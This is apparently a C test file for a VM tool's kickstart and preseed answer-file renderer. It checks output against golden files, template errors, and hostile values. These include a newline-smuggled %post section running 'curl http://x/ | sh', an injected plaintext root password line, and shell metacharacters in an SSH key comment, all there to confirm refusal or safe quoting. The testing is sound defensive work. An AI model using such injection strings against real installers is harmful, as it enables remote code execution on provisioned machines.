/*
 * test-answer.c - answer files (provision/answer.c): each shipped
 * template rendered for a static and a DHCP guest and compared byte for
 * byte with tests/answer/TEMPLATE-CASE.expected (VMKIT_REGENERATE=1
 * rewrites them); then hostile values (refused, or quoted so that the
 * shell and anaconda's shlex read them back unchanged) and broken
 * templates, each error at its line and column.  Runs from the top of
 * the tree.
 */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "answer.h"
#include "fileio.h"
#include "tap.h"
#include "testutil.h"

#define GOLDEN_DIR "tests/answer"
#define N(a) (sizeof(a) / sizeof((a)[0]))

#define HASH "$6$vmkit.test.salt$gaMXwDF7m3/johfza2jafvV08pA1dlaYj/4VFpZDy9KlwJjv2m27DHmlBX" \
             "/QXEJhIutl5.o4ywyrBqbZ0xWMS."
#define KEY1 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICu/g7Ysui+dAsxUpAzScLyK45HleogFtHP9I7Gsa3eA" \
             " admin@example.org"
#define KEY2 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID24wOayXIQWWJwznwvpSiyYD8B2j/RgmnBxfUn68TQ+" \
             " ops"
/* A comment full of shell metacharacters.  The test runs it through a
 * shell: should the quoting ever break, it prints, it does no harm. */
#define KEY_EVIL "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICu/g7Ysui+dAsxUpAzScLyK45HleogFtHP9I7Gsa3eA" \
                 " o'brien; echo pwned $(echo pwned) `echo pwned` \"q\" \\ * | cat #"

static const struct template {
    const char *name;           /* the golden files' prefix */
    const char *path;
    enum answer_syntax syntax;
    const char *mirror_url;     /* kickstart's install tree */
} templates[] = {
    { "centos7", "templates/kickstart/centos7.ks", ANSWER_KICKSTART,
      "http://mirror.example.org/centos/7.9.2009/os/x86_64/" },
    { "rocky9", "templates/kickstart/rocky9.ks", ANSWER_KICKSTART,
      "http://mirror.example.org/rocky/9/BaseOS/x86_64/os/" },
    { "debian", "templates/preseed/debian.cfg", ANSWER_PRESEED, NULL },
};

/* Everything given: static network, domain, swap, proxy, two keys. */
static const struct answer_var static_vars[] = {
    { "hostname", "web1" },
    { "domain", "example.org" },
    { "fqdn", "web1.example.org" },
    { "ip", "192.0.2.10" },
    { "netmask", "255.255.255.0" },
    { "gateway", "192.0.2.1" },
    { "nameservers", "192.0.2.53" },
    { "nameservers", "2001:db8::53" },
    { "root_password_hash", HASH },
    { "ssh_keys", KEY1 },
    { "ssh_keys", KEY2 },
    { "disk", "vda" },
    { "swap_mib", "512" },
    { "timezone", "Europe/Berlin" },
    { "locale", "en_US.UTF-8" },
    { "keymap", "de-latin1" },
    { "mirror_host", "mirror.example.org:8080" },
    { "mirror_dir", "/debian" },
    { "proxy", "http://192.0.2.1:3142/" },
    { "packages", "openssh-server" },
    { "packages", "less" },
    { "console_args", "console=hvc0 console=ttyS0" },
    { "console", "hvc0" },
};

/* DHCP, and no domain, swap, proxy or key: the other side of each block. */
static const struct answer_var dhcp_vars[] = {
    { "hostname", "web2" },
    { "fqdn", "web2" },
    { "root_password_hash", HASH },
    { "disk", "vda" },
    { "timezone", "UTC" },
    { "locale", "en_GB.UTF-8" },
    { "keymap", "us" },
    { "mirror_host", "deb.example.org" },
    { "mirror_dir", "/debian" },
    { "packages", "openssh-server" },
    { "console_args", "console=hvc0 console=ttyS0" },
    { "console", "hvc0" },
};

static const struct golden_case {
    const char *name;
    const struct answer_var *vars;
    size_t nvars;
} cases[] = {
    { "static", static_vars, N(static_vars) },
    { "dhcp", dhcp_vars, N(dhcp_vars) },
};

/* ---- helpers ---- */

/*
 * Renders template file t with vars (and t's install tree), name=value
 * replacing that variable's values when name is not NULL (value NULL:
 * leaving it out).  Returns answer_render's result; *out_r as it sets.
 */
static int render_file(const struct template *t, const struct answer_var *vars, size_t n,
                       const char *name, const char *value, char **out_r, struct diag *d)
{
    struct answer_var all[64];
    size_t m = 0, len;
    char *text;
    int rc;

    for (size_t i = 0; i < n; i++)
        if (!name || strcmp(vars[i].name, name))
            all[m++] = vars[i];
    if (name && value)
        all[m++] = (struct answer_var){ name, value };
    if (t->mirror_url)
        all[m++] = (struct answer_var){ "mirror_url", t->mirror_url };
    *out_r = NULL;
    if ((rc = file_read_bounded(t->path, 1 << 20, 0, &text, &len, d)))
        return rc;
    rc = answer_render(t->path, text, len, t->syntax, all, m, out_r, d);
    free(text);
    return rc;
}

static int render_text(const char *text, enum answer_syntax syntax,
                       const struct answer_var *vars, size_t n, char **out_r, struct diag *d)
{
    *out_r = NULL;
    return answer_render(syntax == ANSWER_KICKSTART ? "t.ks" : "t.cfg", text, strlen(text),
                         syntax, vars, n, out_r, d);
}

/* d's entries as TAP comments. */
static void show(const struct diag *d)
{
    for (size_t i = 0; i < d->n; i++)
        printf("#   %s:%d:%d: %s\n", d->v[i].file ? d->v[i].file : "-", d->v[i].line,
               d->v[i].col, d->v[i].msg);
}

/* Some error of d is at line:col (0: any) and says part; else d is shown. */
static bool error_at(const struct diag *d, int line, int col, const char *part)
{
    for (size_t i = 0; i < d->n; i++)
        if (d->v[i].level == DIAG_ERROR && (!line || d->v[i].line == line) &&
            (!col || d->v[i].col == col) && strstr(d->v[i].msg, part))
            return true;
    show(d);
    return false;
}

/* No message of d holds s. */
static bool never_said(const struct diag *d, const char *s)
{
    for (size_t i = 0; i < d->n; i++)
        if (strstr(d->v[i].msg, s))
            return false;
    return true;
}

/*
 * text (a template) must be refused: -EINVAL, no output, an error at
 * line:col saying part.
 */
static void refused(const char *what, const char *text, enum answer_syntax syntax,
                    const struct answer_var *vars, size_t n, int line, int col,
                    const char *part)
{
    struct diag d;
    char *out;
    int rc;

    diag_init(&d);
    rc = render_text(text, syntax, vars, n, &out, &d);
    ok(rc == -EINVAL && !out && error_at(&d, line, col, part), "%s: refused at %d:%d (%s)",
       what, line, col, part);
    free(out);
    diag_dispose(&d);
}

/* text renders as want. */
static void renders(const char *what, const char *text, enum answer_syntax syntax,
                    const struct answer_var *vars, size_t n, const char *want)
{
    struct diag d;
    char *out;

    diag_init(&d);
    if (!ok(render_text(text, syntax, vars, n, &out, &d) == 0, "%s: renders", what))
        show(&d);
    is_str(out, want, "%s: as expected", what);
    free(out);
    diag_dispose(&d);
}

/* The line of text that starts with prefix, as a new string, or NULL. */
static char *line_with(const char *text, const char *prefix)
{
    for (const char *p = text; *p; p += strcspn(p, "\n") + (p[strcspn(p, "\n")] == '\n'))
        if (!strncmp(p, prefix, strlen(prefix)))
            return strndup(p, strcspn(p, "\n"));
    return NULL;
}

/* Prints the first differing line of two texts as TAP comments. */
static void show_difference(const char *got, const char *want)
{
    int line = 1;

    while (*got && *want) {
        size_t g = strcspn(got, "\n"), w = strcspn(want, "\n");

        if (g != w || strncmp(got, want, g)) {
            printf("#   line %d\n#   got:  %.*s\n#   want: %.*s\n", line, (int)g, got,
                   (int)w, want);
            return;
        }
        got += g + (got[g] == '\n');
        want += w + (want[w] == '\n');
        line++;
    }
    printf("#   line %d: %s ends first\n", line, *got ? "the golden file" : "the output");
}

/* ---- the shipped templates ---- */

static void golden_one(const struct template *t, const struct golden_case *c, bool regenerate)
{
    char path[256], *got = NULL, *want = NULL;
    struct diag d;
    size_t len;

    snprintf(path, sizeof(path), "%s/%s-%s.expected", GOLDEN_DIR, t->name, c->name);
    diag_init(&d);
    if (!ok(render_file(t, c->vars, c->nvars, NULL, NULL, &got, &d) == 0,
            "%s, %s guest: renders", t->path, c->name)) {
        show(&d);
        goto out;
    }
    if (regenerate) {
        FILE *f = fopen(path, "w");

        ok(f && fputs(got, f) >= 0 && fclose(f) == 0, "%s: regenerated", path);
        goto out;
    }
    if (file_read_bounded(path, 1 << 20, 0, &want, &len, &d)) {
        ok(0, "%s: cannot be read (VMKIT_REGENERATE=1 writes it)", path);
        goto out;
    }
    if (!ok(!strcmp(got, want), "%s, %s guest: as in %s", t->path, c->name, path))
        show_difference(got, want);
out:
    free(got);
    free(want);
    diag_dispose(&d);
}

static void test_golden(void)
{
    const char *regen = getenv("VMKIT_REGENERATE");
    bool regenerate = regen && !strcmp(regen, "1");

    if (regenerate)
        printf("# VMKIT_REGENERATE=1: rewriting the golden files in %s\n", GOLDEN_DIR);
    for (size_t i = 0; i < N(templates); i++)
        for (size_t j = 0; j < N(cases); j++)
            golden_one(&templates[i], &cases[j], regenerate);
}

/* What the golden files hold, said once more so that a careless
 * regeneration cannot bless a wrong answer file. */
static void test_meaning(void)
{
    static const char *const ks_lines[] = {
        "network --device=link --bootproto=static --ip=192.0.2.10 --netmask=255.255.255.0"
        " --gateway=192.0.2.1 --nameserver=192.0.2.53,2001:db8::53"
        " --hostname=web1.example.org --onboot=yes --activate",
        "bootloader --location=mbr --boot-drive=vda --append=\"console=hvc0 console=ttyS0\"",
        "rootpw --iscrypted " HASH,
        "url --url=http://mirror.example.org/",
        "part swap --size=512 --ondisk=vda",
        "printf '%s\\n' '" KEY1 "' '" KEY2 "' >/root/.ssh/authorized_keys",
        "systemctl enable serial-getty@'hvc0'.service",
    };
    static const char *const preseed_lines[] = {
        "d-i lowmem/low note",
        "d-i netcfg/get_nameservers string 192.0.2.53 2001:db8::53",
        "d-i mirror/http/hostname string mirror.example.org:8080",
        "d-i mirror/http/proxy string http://192.0.2.1:3142/",
        "d-i passwd/root-password-crypted password " HASH,
        "d-i pkgsel/include string openssh-server less",
        "d-i debian-installer/add-kernel-opts string console=hvc0 console=ttyS0",
        "    printf '%s\\n' '" KEY1 "' '" KEY2 "' >/target/root/.ssh/authorized_keys; \\",
        "    in-target systemctl enable serial-getty@'hvc0'.service",
    };
    struct diag d;
    char *out;

    diag_init(&d);
    for (size_t i = 0; i < N(templates); i++) {
        const struct template *t = &templates[i];
        bool ks = t->syntax == ANSWER_KICKSTART;
        const char *const *lines = ks ? ks_lines : preseed_lines;
        size_t n = ks ? N(ks_lines) : N(preseed_lines);

        render_file(t, static_vars, N(static_vars), NULL, NULL, &out, &d);
        for (size_t j = 0; j < n; j++) {
            char *l = line_with(out ? out : "", lines[j]);

            ok(l != NULL, "%s, static guest: a line `%.60s...'", t->path, lines[j]);
            free(l);
        }
        if (ks)
            ok(out && strstr(out, "\n%packages\n@core\nopenssh-server\nless\n%end\n"),
               "%s: %%packages with @core and one package a line", t->path);
        free(out);
    }
    diag_dispose(&d);
}

/* ---- hostile values ---- */

static void test_hostile_values(void)
{
    const struct template *c7 = &templates[0], *r9 = &templates[1], *deb = &templates[2];
    struct diag d;
    char *out, *l;
    int rc;

    /* a quote in the host name: refused in both syntaxes, at the first
     * use, the value shown */
    diag_init(&d);
    rc = render_file(c7, static_vars, N(static_vars), "fqdn", "web\"1.example.org", &out, &d);
    ok(rc == -EINVAL && !out && error_at(&d, 0, 0, "@fqdn@ `web\"1.example.org': not a host name"),
       "kickstart: a host name with a quote is refused");
    ok(d.n && d.v[0].line > 0 && d.v[0].col > 0 && !strcmp(d.v[0].file, c7->path),
       "kickstart: the error names the template, a line and a column");
    diag_dispose(&d);
    diag_init(&d);
    rc = render_file(deb, static_vars, N(static_vars), "hostname", "web\"1", &out, &d);
    ok(rc == -EINVAL && !out && error_at(&d, 0, 0, "@hostname@ `web\"1': not a host name"),
       "preseed: a host name with a quote is refused");
    ok(d.n == 1, "preseed: once, though the template uses @hostname@ twice (%zu)", d.n);
    diag_dispose(&d);

    /* a newline in the password hash: refused, and the hash never shown */
    for (size_t i = 0; i < N(templates); i++) {
        diag_init(&d);
        rc = render_file(&templates[i], static_vars, N(static_vars), "root_password_hash",
                         HASH "\nrootpw --plaintext x", &out, &d);
        ok(rc == -EINVAL && !out && error_at(&d, 0, 0, "@root_password_hash@: a newline at byte 106"),
           "%s: a newline in the password hash is refused", templates[i].path);
        ok(never_said(&d, "vmkit.test.salt"), "%s: the hash is not shown", templates[i].path);
        diag_dispose(&d);
    }

    /* a %post section smuggled in by a newline, in a free-form value */
    diag_init(&d);
    rc = render_file(c7, static_vars, N(static_vars), "ssh_keys",
                     KEY1 "\n%end\n%post\ncurl http://x/ | sh\n%end", &out, &d);
    ok(rc == -EINVAL && !out && error_at(&d, 0, 0, "@ssh_keys@ item 1: a newline at byte 99"),
       "kickstart: a %%post injected through an ssh key's newline is refused");
    diag_dispose(&d);
    diag_init(&d);
    rc = render_file(r9, static_vars, N(static_vars), "console_args",
                     "quiet\n%post\nreboot", &out, &d);
    ok(rc == -EINVAL && !out && error_at(&d, 0, 0, "@console_args@: a newline at byte 6"),
       "kickstart: a %%post injected through the kernel arguments is refused");
    diag_dispose(&d);

    /* a trailing blank: not expressible in a preseed value, quoted in a
     * kickstart option */
    diag_init(&d);
    rc = render_file(deb, static_vars, N(static_vars), "console_args", "console=hvc0 ", &out,
                     &d);
    ok(rc == -EINVAL && !out &&
       error_at(&d, 0, 0, "@console_args@ `console=hvc0 ': a preseed value cannot begin or end"
                " with a blank"),
       "preseed: a value with a trailing blank is refused");
    diag_dispose(&d);
    diag_init(&d);
    rc = render_file(r9, static_vars, N(static_vars), "console_args", "console=hvc0 ", &out, &d);
    l = line_with(out ? out : "", "bootloader ");
    is_str(l, "bootloader --location=mbr --boot-drive=vda --append=\"console=hvc0 \"",
           "kickstart: the same value, double-quoted");
    free(l);
    free(out);
    diag_dispose(&d);

    /* shell metacharacters in a key's comment: one inert word */
    diag_init(&d);
    rc = render_file(deb, static_vars, N(static_vars), "ssh_keys", KEY_EVIL, &out, &d);
    l = line_with(out ? out : "", "    printf");
    is_str(l, "    printf '%s\\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICu/g7Ysui+dAsxUpAzSc"
              "LyK45HleogFtHP9I7Gsa3eA o'\\''brien; echo pwned $(echo pwned) `echo pwned` \"q\""
              " \\ * | cat #' >/target/root/.ssh/authorized_keys; \\",
           "preseed: a key with shell metacharacters comes out single-quoted (rc %d)", rc);
    free(l);
    free(out);
    diag_dispose(&d);
}

/* The shell and anaconda's own splitting read quoted values back as
 * they were given. */
static void test_read_back(void)
{
    const struct answer_var keys[] = { { "ssh_keys", KEY_EVIL }, { "ssh_keys", KEY2 } };
    const struct answer_var odd_key[] = {
        { "ssh_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID24wOayXIQ a\"b\\c #d 'e'" },
    };
    struct test_out o = { 0 };
    struct diag d;
    char *out, *l;

    diag_init(&d);
    render_text("%post\nprintf '%s\\n' @ssh_keys@\n%end\n", ANSWER_KICKSTART, keys, N(keys),
                &out, &d);
    l = line_with(out ? out : "", "printf");
    ok(l && test_capture_v(&o, PROC_NULL, (const char *const[]){ "/bin/sh", "-c", l, NULL }) == 0,
       "a %%post line with two quoted keys runs");
    is_str(o.buf, KEY_EVIL "\n" KEY2 "\n", "the shell reads each key back, unchanged");
    free(o.buf);
    free(l);
    free(out);

    render_text("sshkey --username=root @ssh_keys@\n", ANSWER_KICKSTART, odd_key, 1, &out, &d);
    is_str(out, "sshkey --username=root \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID24wOayXIQ"
                " a\\\"b\\\\c #d 'e'\"\n",
           "kickstart: `\"' and `\\' escaped inside double quotes");
    if (!test_have("python3")) {
        ok(1, "# SKIP no python3 for shlex");
    } else {
        o.buf = NULL;
        l = out ? strndup(out, strcspn(out, "\n")) : NULL;
        test_capture_v(&o, PROC_NULL, (const char *const[]){
            "python3", "-c",
            "import shlex, sys; print(shlex.split(sys.argv[1], comments=True)[2])", l, NULL });
        is_str(o.buf, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID24wOayXIQ a\"b\\c #d 'e'\n",
               "shlex (as anaconda splits) reads the key back, unchanged");
        free(o.buf);
        free(l);
    }
    free(out);
    diag_dispose(&d);

    refused("several keys in one kickstart option", "sshkey --username=root @ssh_keys@\n",
            ANSWER_KICKSTART, keys, N(keys), 1, 24, "joins a list with `,'");
    refused("a key ending in `\\' in a preseed value", "d-i x/y string @ssh_keys@\n",
            ANSWER_PRESEED, (const struct answer_var[]){ { "ssh_keys", KEY2 " \\" } }, 1, 1, 16,
            "cannot end with `\\'");
    refused("a key in %packages", "%packages\n@ssh_keys@\n%end\n", ANSWER_KICKSTART,
            keys, 1, 2, 1, "one package name a line");
}

static void test_generic_values(void)
{
    refused("a value beginning with `-'", "keyboard --vckeymap=@keymap@\n", ANSWER_KICKSTART,
            (const struct answer_var[]){ { "keymap", "-us" } }, 1, 1, 21,
            "@keymap@ `-us': begins with `-'");
    refused("a tab", "d-i x/y string @console_args@\n", ANSWER_PRESEED,
            (const struct answer_var[]){ { "console_args", "quiet\tx" } }, 1, 1, 16,
            "byte 6 is 0x09");
    refused("an empty value", "lang @locale@\n", ANSWER_KICKSTART,
            (const struct answer_var[]){ { "locale", "" } }, 1, 1, 6, "empty");
    refused("a byte outside ASCII", "lang @locale@\n", ANSWER_KICKSTART,
            (const struct answer_var[]){ { "locale", "de_DE.\xc3\xa4" } }, 1, 1, 6,
            "byte 7 is 0xc3");
    refused("a name not in the list", "text\n", ANSWER_KICKSTART,
            (const struct answer_var[]){ { "hostnme", "web1" } }, 1, 0, 0,
            "`hostnme' is not an answer-file variable");
    refused("a single value given twice", "text\n", ANSWER_KICKSTART,
            (const struct answer_var[]){ { "disk", "vda" }, { "disk", "vdb" } }, 2, 0, 0,
            "@disk@ is given more than once");
}

/* ---- template errors ---- */

static void test_templates(void)
{
    const struct answer_var some[] = {
        { "hostname", "web1" }, { "console", "hvc0" }, { "disk", "vda" },
        { "console_args", "console=hvc0" },
    };

    refused("an unknown placeholder", "text\nurl --url=@mirror_ur@\n", ANSWER_KICKSTART,
            some, N(some), 2, 11, "@mirror_ur@: no such variable");
    refused("an unknown placeholder in a left-out block",
            "@if ip@\nnetwork --ip=@ipaddr@\n@endif@\n", ANSWER_KICKSTART, some, N(some), 2, 14,
            "@ipaddr@: no such variable");
    refused("an unknown variable in @if", "@if static@\n@endif@\n", ANSWER_KICKSTART, some,
            N(some), 1, 5, "@if static@: no such variable");
    refused("an unterminated @if", "text\n@if ip@\nnetwork --ip=@ip@\n", ANSWER_KICKSTART,
            some, N(some), 2, 1, "no @endif@");
    refused("a variable used but not given", "text\nlang @locale@\n", ANSWER_KICKSTART,
            some, N(some), 2, 6, "@locale@ is used here but not given");
    refused("@else@ without @if@", "@else@\n", ANSWER_PRESEED, some, N(some), 1, 1,
            "@else@ without @if@");
    refused("@endif@ without @if@", "@endif@\n", ANSWER_PRESEED, some, N(some), 1, 1,
            "@endif@ without @if@");
    refused("a second @else@", "@if disk@\n@else@\n@else@\n@endif@\n", ANSWER_PRESEED, some,
            N(some), 3, 1, "a second @else@");
    refused("nested blocks", "@if disk@\n@if console@\n@endif@\n@endif@\n", ANSWER_PRESEED, some,
            N(some), 2, 1, "do not nest");
    refused("a directive with more on its line", "@if disk@ text\n@endif@\n", ANSWER_PRESEED,
            some, N(some), 1, 1, "and nothing else");
    refused("@endif@ inside a line", "text @endif@\n", ANSWER_PRESEED, some, N(some), 1, 6,
            "@endif@ is a line of its own");
    refused("@if inside a line", "x @if disk@\n", ANSWER_PRESEED, some, N(some), 1, 3,
            "@if NAME@ is a line of its own");
    refused("a lone @", "%packages\n@core\n%end\n", ANSWER_KICKSTART, some, N(some), 2, 1,
            "a lone `@'");
    {
        static const char nul[] = "text\nab\0c\n";
        struct diag d;
        char *out = NULL;

        diag_init(&d);
        ok(answer_render("t.ks", nul, sizeof(nul) - 1, ANSWER_KICKSTART, some, N(some), &out,
                         &d) == -EINVAL && !out && error_at(&d, 2, 3, "a NUL byte"),
           "a NUL byte: refused at 2:3");
        diag_dispose(&d);
    }

    /* where a placeholder may go */
    refused("inside the template's double quotes", "bootloader --append=\"@console_args@\"\n",
            ANSWER_KICKSTART, some, N(some), 1, 22, "inside the template's own quoting");
    refused("inside the template's single quotes", "%post\necho 'x @console@'\n%end\n",
            ANSWER_KICKSTART, some, N(some), 2, 9, "inside the template's own quoting");
    refused("after a backslash", "%post\necho \\@console@\n%end\n", ANSWER_KICKSTART, some,
            N(some), 2, 7, "inside the template's own quoting");
    refused("the first word of a %post line", "%post\n@console@ x\n%end\n", ANSWER_KICKSTART,
            some, N(some), 2, 1, "first word of a kickstart line");
    refused("the first word of a command line", "  x@disk@ --y\n", ANSWER_KICKSTART, some,
            N(some), 1, 4, "first word of a kickstart line");
    refused("a kickstart section line", "%post --log=/x/@disk@\n%end\n", ANSWER_KICKSTART, some,
            N(some), 1, 16, "section line takes no placeholder");
    refused("an %addon section", "%addon com_x\nx @disk@\n%end\n", ANSWER_KICKSTART, some,
            N(some), 2, 3, "no placeholder in a section other than");
    refused("%packages, not alone on its line", "%packages\n  @disk@\n%end\n", ANSWER_KICKSTART,
            some, N(some), 2, 3, "a line of its own");
    refused("a preseed question's name", "d-i @hostname@/x string y\n", ANSWER_PRESEED, some,
            N(some), 1, 5, "goes in a question's value");
    refused("a preseed comment", "# @hostname@\n", ANSWER_PRESEED, some, N(some), 1, 3,
            "goes in a question's value");

    /* what is accepted */
    renders("kept and left-out blocks; unused and missing values in a left-out block",
            "@if ip@\nnetwork --ip=@ip@\n@else@\nnetwork --bootproto=dhcp\n@endif@\n"
            "@if disk@\nzerombr\n@endif@\n@@core # @@ @@@disk@\n",
            ANSWER_KICKSTART, some, N(some),
            "network --bootproto=dhcp\nzerombr\n@core # @ @vda\n");
    renders("a quoted value in a comment, a continued preseed command",
            "d-i preseed/late_command string \\\n    echo @console_args@ # it's @disk@\n"
            "d-i netcfg/get_hostname string @hostname@",
            ANSWER_PRESEED, some, N(some),
            "d-i preseed/late_command string \\\n    echo 'console=hvc0' # it's 'vda'\n"
            "d-i netcfg/get_hostname string web1");
    renders("the last line without a newline; an empty template", "", ANSWER_PRESEED, NULL, 0,
            "");
}

int main(void)
{
    test_golden();
    test_meaning();
    test_hostile_values();
    test_read_back();
    test_generic_values();
    test_templates();
    return tap_done();
}
